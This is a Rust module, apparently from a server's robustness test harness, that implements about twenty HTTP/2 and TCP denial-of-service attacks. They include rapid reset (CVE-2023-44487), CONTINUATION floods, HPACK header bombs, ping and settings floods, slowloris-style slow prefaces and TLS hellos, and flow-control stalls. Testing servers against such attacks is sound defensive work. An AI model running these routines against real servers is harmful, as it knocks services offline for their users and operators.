//! What hostile peers do, frame by frame, again and again until they are told to stop.

use std::{
    io::{self, Write as _},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

use crate::raw::{self, Raw};

/// What an attacker is given: whom to attack, and when to stop.
#[derive(Clone, Copy)]
pub struct Scene<'a> {
    pub address: SocketAddr,
    pub over: &'a AtomicBool,
}

impl Scene<'_> {
    fn goes_on(&self) -> bool {
        !self.over.load(Ordering::Relaxed)
    }

    /// A connection, the preface and settings; `None` where it cannot be had now.
    fn open(&self, settings: &[(u16, u32)]) -> Option<Raw> {
        let mut raw = Raw::try_silent(self.address)?;
        raw.begin(settings).ok()?;
        raw.patience(Duration::from_millis(500));
        Some(raw)
    }

    /// On a connection of its own each time, acts until that fails.
    fn each(&self, settings: &[(u16, u32)], mut act: impl FnMut(&mut Raw) -> io::Result<()>) {
        while self.goes_on() {
            let Some(mut raw) = self.open(settings) else {
                std::thread::sleep(PAUSE);
                continue;
            };
            // It ends with an error: that is what it is for.
            let _ = act(&mut raw);
        }
    }

    /// Holds many peers as long as they last, and replaces those that were closed.
    fn hold(&self, count: usize, make: impl Fn() -> Option<Raw>) {
        let mut peers: Vec<Raw> = Vec::new();
        while self.goes_on() {
            peers.retain_mut(|peer| !peer.is_closed());
            while peers.len() < count && self.goes_on() {
                let Some(peer) = make() else { break };
                peers.push(peer);
            }
            std::thread::sleep(PAUSE);
        }
    }
}

/// Calls that are reset as soon as they are made (CVE-2023-44487).
pub fn rapid_resets(scene: Scene<'_>) {
    scene.each(&[], |raw| {
        for call in 0.. {
            let stream = call * 2 + 1;
            raw.call(stream, raw::LIST)?;
            raw.frame(raw::RST_STREAM, 0, stream, &8_u32.to_be_bytes())?;
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// Calls that the server has to reset itself (RUSTSEC-2024-0003).
pub fn local_resets(scene: Scene<'_>) {
    let malformed = raw::fields(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", raw::LIST),
        ("connection", "close"),
    ]);
    scene.each(&[], |raw| {
        let flags = raw::END_HEADERS | raw::END_STREAM;
        for call in 0.. {
            raw.frame(raw::HEADERS, flags, call * 2 + 1, &malformed)?;
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// Headers that never end (CVE-2024-27316 and its kin).
pub fn continuations(scene: Scene<'_>) {
    let more = raw::fields(&[("x-more", "0123456789abcdef0123456789abcdef")]);
    scene.each(&[], |raw| {
        raw.frame(raw::HEADERS, 0, 1, &raw::call_headers(raw::LIST))?;
        while scene.goes_on() {
            raw.frame(raw::CONTINUATION, 0, 1, &more)?;
        }
        Ok(())
    });
}

/// One large field that is kept in the table, then pointed to thousands of times.
pub fn header_bombs(scene: Scene<'_>) {
    let large = "a".repeat(3_900);
    let mut first = raw::call_headers(raw::LIST);
    first.extend(raw::kept("x-large", &large));
    // 62: the newest entry of the table.
    let mut bomb = raw::call_headers(raw::LIST);
    bomb.extend(vec![0x80 | 62; 12_000]);
    scene.each(&[], |raw| {
        let flags = raw::END_HEADERS | raw::END_STREAM;
        raw.frame(raw::HEADERS, flags, 1, &first)?;
        for call in 1.. {
            raw.frame(raw::HEADERS, flags, call * 2 + 1, &bomb)?;
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// Headers as large as a frame.
pub fn big_headers(scene: Scene<'_>) {
    let large = "a".repeat(15_000);
    let mut block = raw::call_headers(raw::LIST);
    block.extend(raw::long("x-large", &large));
    scene.each(&[], |raw| {
        let flags = raw::END_HEADERS | raw::END_STREAM;
        for call in 0.. {
            raw.frame(raw::HEADERS, flags, call * 2 + 1, &block)?;
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// DATA frames without data (RUSTSEC-2026-0258).
pub fn empty_data(scene: Scene<'_>) {
    let empty = raw::frame(raw::DATA, 0, 1, &[]).repeat(1000);
    scene.each(&[], |raw| {
        raw.call(1, raw::VERIFY)?;
        while scene.goes_on() {
            raw.write(&empty)?;
        }
        Ok(())
    });
}

/// Pings and settings whose answers nobody reads (CVE-2019-9512, CVE-2019-9515).
pub fn pings_and_settings(scene: Scene<'_>) {
    let mut flood = raw::frame(raw::PING, 0, 0, &[0; 8]);
    flood.extend(raw::frame(raw::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]));
    let flood = flood.repeat(500);
    scene.each(&[], |raw| {
        while scene.goes_on() {
            raw.write(&flood)?;
        }
        Ok(())
    });
}

/// Bodies of which half never comes, on many connections.
pub fn half_bodies(scene: Scene<'_>) {
    let half = raw::message(500_000, &[7; 2_500]);
    scene.hold(30, || {
        let mut raw = scene.open(&[])?;
        raw.until(raw::WINDOW_UPDATE)?;
        for call in 0..100 {
            raw.call(call * 2 + 1, raw::VERIFY).ok()?;
            raw.frame(raw::DATA, 0, call * 2 + 1, &half).ok()?;
        }
        Some(raw)
    });
}

/// Half a body again and again, so that calls never run out.
pub fn endless_half_bodies(scene: Scene<'_>) {
    let half = raw::message(500_000, &[7; 1_000]);
    scene.each(&[], |raw| {
        for call in 0.. {
            raw.call(call * 2 + 1, raw::VERIFY)?;
            raw.frame(raw::DATA, 0, call * 2 + 1, &half)?;
            if call >= 80 {
                raw.next().ok_or(io::ErrorKind::UnexpectedEof)?;
            }
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// Bodies of which only the last byte never comes, so that bytes run out.
pub fn large_half_bodies(scene: Scene<'_>) {
    let body = raw::message(1_000_000, &vec![0; 999_999]);
    scene.hold(20, || {
        let mut raw = scene.open(&[])?;
        raw.until(raw::WINDOW_UPDATE)?;
        for call in [1, 3] {
            send(&mut raw, call, &body, 0).ok()?;
        }
        Some(raw)
    });
}

/// A call and its body, as the server makes room for it.
fn send(raw: &mut Raw, call: u32, body: &[u8], flags: u8) -> io::Result<()> {
    raw.call(call, raw::VERIFY)?;
    let (mut sent, mut parts) = (0, body.chunks(16_000).peekable());
    while let Some(part) = parts.next() {
        let flags = if parts.peek().is_none() { flags } else { 0 };
        raw.frame(raw::DATA, flags, call, part)?;
        sent += part.len();
        // Less than any window: the stream's is the smallest.
        if sent > 100_000 {
            raw.until(raw::WINDOW_UPDATE).ok_or(io::ErrorKind::UnexpectedEof)?;
            sent = 0;
        }
    }
    Ok(())
}

/// Bodies as large as is allowed, for nobody.
pub fn large_bodies(scene: Scene<'_>) {
    let body = raw::message(1_000_000, &vec![0; 1_000_000]);
    scene.each(&[], |raw| {
        raw.until(raw::WINDOW_UPDATE).ok_or(io::ErrorKind::UnexpectedEof)?;
        for call in (0..).map(|call| call * 2 + 1) {
            send(raw, call, &body, raw::END_STREAM)?;
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// Lengths that nobody could send.
pub fn huge_lengths(scene: Scene<'_>) {
    let prefix = raw::message(u32::MAX, &[0; 16]);
    scene.each(&[], |raw| {
        for call in (0..).map(|call| call * 2 + 1) {
            raw.call(call, raw::VERIFY)?;
            raw.frame(raw::DATA, 0, call, &prefix)?;
            if call % 100 == 99 {
                raw.until(raw::HEADERS).ok_or(io::ErrorKind::UnexpectedEof)?;
            }
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// Sockets that say nothing.
pub fn silence(scene: Scene<'_>) {
    scene.hold(40, || Raw::try_silent(scene.address));
}

/// Prefaces that come byte by byte.
pub fn slow_prefaces(scene: Scene<'_>) {
    let mut at = 0;
    let mut peers: Vec<Raw> = Vec::new();
    while scene.goes_on() {
        peers.retain_mut(|peer| peer.write(&raw::PREFACE[at..=at]).is_ok() && !peer.is_closed());
        at = (at + 1) % raw::PREFACE.len();
        if at == 0 {
            peers.clear();
        }
        if at == 1 {
            peers.extend((0..40).filter_map(|_| Raw::try_silent(scene.address)));
            peers.retain_mut(|peer| peer.write(&raw::PREFACE[..1]).is_ok());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Hellos of TLS that come byte by byte.
pub fn slow_hellos(scene: Scene<'_>) {
    let mut peers: Vec<Raw> = Vec::new();
    while scene.goes_on() {
        peers.retain_mut(|peer| peer.write(&[0]).is_ok() && !peer.is_closed());
        while peers.len() < 40 && scene.goes_on() {
            let Some(mut peer) = Raw::try_silent(scene.address) else { break };
            // A record of 16 KiB is announced: a handshake, a hello.
            if peer.write(&[22, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xfb, 3, 3]).is_ok() {
                peers.push(peer);
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Answers that are not read: no window for them.
pub fn zero_windows(scene: Scene<'_>) {
    scene.hold(30, || {
        let mut raw = scene.open(&[(4, 0)])?;
        for call in 0..100 {
            raw.call(call * 2 + 1, raw::LIST).ok()?;
            let whole = raw::message(0, &[]);
            raw.frame(raw::DATA, raw::END_STREAM, call * 2 + 1, &whole).ok()?;
        }
        Some(raw)
    });
}

/// Answers that are not read: a window without end, and a socket that nobody empties.
pub fn never_reading(scene: Scene<'_>) {
    scene.each(&[(4, (1 << 31) - 1)], |raw| {
        raw.frame(raw::WINDOW_UPDATE, 0, 0, &((1_u32 << 31) - 70_000).to_be_bytes())?;
        for call in (0..).map(|call| call * 2 + 1) {
            raw.call(call, raw::LIST)?;
            raw.frame(raw::DATA, raw::END_STREAM, call, &raw::message(0, &[]))?;
            if !scene.goes_on() {
                break;
            }
        }
        Ok(())
    });
}

/// Streams without an item.
pub fn idle_streams(scene: Scene<'_>) {
    scene.hold(30, || {
        let mut raw = scene.open(&[])?;
        for call in 0..50 {
            raw.call(call * 2 + 1, raw::STREAM).ok()?;
        }
        Some(raw)
    });
}

/// More connections than are allowed, each with a preface.
pub fn connections(scene: Scene<'_>) {
    scene.hold(150, || scene.open(&[]));
}

/// Connections that are gone before they are accepted.
pub fn comings_and_goings(scene: Scene<'_>) {
    while scene.goes_on() {
        let connected = TcpStream::connect_timeout(&scene.address, Duration::from_millis(100));
        if let Ok(mut stream) = connected {
            // Whether it is still there does not matter.
            let _ = stream.write(b"PRI * HTTP/2.0\r\n");
        }
    }
}

const PAUSE: Duration = Duration::from_millis(10);
